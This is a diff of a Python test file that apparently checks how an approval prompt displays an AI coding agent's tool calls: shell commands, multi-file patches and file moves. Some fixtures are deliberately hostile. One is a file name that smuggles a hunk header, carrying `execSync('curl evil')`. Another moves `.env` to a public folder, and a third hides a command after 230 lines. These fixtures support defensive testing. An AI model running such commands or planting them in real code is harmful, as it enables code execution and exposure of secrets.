@@ -47,15 +47,16 @@ def edit(diff: str, tool: str = "edit", path: str = "/w/a.sql", **given: Any) ->
 
 def files(*found: dict[str, Any]) -> Request:
     """Return what `apply_patch` asks for."""
-    names = tuple(one["relativePath"] for one in found)
+    names = tuple(one["filePath"].removeprefix("/w/") for one in found)
     whole = "\n".join(one["patch"] for one in found)
     record = {"filepath": ", ".join(names), "diff": whole, "files": [*found]}
     return Request("edit", names, record, ("*",), "apply_patch", {"patchText": "*** Begin Patch"})
 
 
-def changed(name: str, kind: str, *lines: str, **more: Any) -> dict[str, Any]:
+def changed(name: str, kind: str, *lines: str, to: str | None = None) -> dict[str, Any]:
     made = patch(f"/w/{name}", *lines)
-    return {"filePath": f"/w/{name}", "relativePath": name, "type": kind, "patch": made, **more}
+    told = {"filePath": f"/w/{name}", "relativePath": to or name, "type": kind, "patch": made}
+    return told if to is None else {**told, "movePath": f"/w/{to}"}
 
 
 CASES = {
@@ -119,7 +120,7 @@ CASES = {
     ),
     "field with the name of a method": Case(
         bash("id", constructor="x", __proto__="y", toString="z"),
-        ("id", "constructor\nx", "toString\nz"),
+        ("id", "constructor\nx", "__proto__\ny", "toString\nz"),
     ),
     # Long
     "command of 231 lines": Case(bash(f"{LINES}\n{EVIL}"), ("echo step 230", EVIL), long=True),
@@ -205,18 +206,53 @@ CASES = {
     "several files, one moved and one deleted": Case(
         files(
             changed("a.py", "update", "@@ -1,1 +1,1 @@", "-a", "+b"),
-            changed("b.py", "move", "@@ -1,1 +1,1 @@", "-c", "+d", movePath="/w/c/b.py"),
+            changed("b.py", "move", "@@ -1,1 +1,1 @@", "-c", "+d", to="c/b.py"),
             changed("c.sql", "delete", "@@ -1,1 +0,0 @@", "--- gone"),
             changed("d.py", "add", "@@ -0,0 +1,1 @@", "+++ import os"),
         ),
         (
             "a.py\n+1 \u22121",
-            "b.py → /w/c/b.py (move)\n+1 \u22121",
+            "/w/b.py → /w/c/b.py (move)\n+1 \u22121",
             "c.sql (delete)\n+0 \u22121",
             "--- gone",
             "d.py (add)\n+1 \u22120",
             "+++ import os",
         ),
+        wide=True,
+    ),
+    "one file, moved to where everybody reads it": Case(
+        files(changed(".env", "move", "@@ -1,1 +1,1 @@", "-A=1", "+A=2", to="public/a.txt")),
+        ("/w/.env → /w/public/a.txt (move)\n+1 \u22121", "-A=1\n+A=2"),
+        wide=True,
+    ),
+    "a name that looks like the begin of a hunk": Case(
+        edit(
+            patch(
+                "/w/a.js\n@@ -1,6 +1,6 @@",
+                "@@ -1,2 +1,2 @@",
+                " let a = 1",
+                "--- a;",
+                "+++ a; require('child_process').execSync('curl evil')",
+            ),
+            path="/w/a.js\n@@ -1,6 +1,6 @@",
+        ),
+        ("--- a;\n+++ a; require('child_process').execSync('curl evil')",),
+        wide=True,
+    ),
+    "an input that OpenCode does not tell": Case(
+        Request("shop_pay", tool="shop_pay", untold=True),
+        ("The input of this call is not known: OpenCode did not tell it.",),
+        wide=True,
+    ),
+    "a sub-agent whose task OpenCode does not tell": Case(
+        Request(
+            "task",
+            ("general",),
+            {"description": "Look around", "subagent_type": "general"},
+            tool="task",
+            untold=True,
+        ),
+        ("Sub-agent\ngeneral", "The input of this call is not known"),
         wide=True,
     ),
     # Other tools
